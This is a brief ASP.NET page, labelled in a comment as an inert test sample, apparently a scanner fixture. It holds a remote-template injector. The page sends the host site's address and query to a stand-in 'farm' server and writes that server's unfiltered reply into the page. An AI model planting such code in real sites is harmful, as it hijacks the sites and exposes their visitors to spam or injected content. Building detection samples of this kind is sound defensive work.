<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %>
<%
    // inert test sample: the remote-template page with the address joined inline and the reply
    // read through HttpWebRequest
    string u = "http://farm.example.net/index.php?site=" + Request.Url.Host + Request.Path + "&url=" + Request.Url.Query;
    HttpWebRequest req = (HttpWebRequest)WebRequest.Create(u);
    using (var rd = new System.IO.StreamReader(req.GetResponse().GetResponseStream()))
    {
        Response.Write(rd.ReadToEnd());
    }
%>
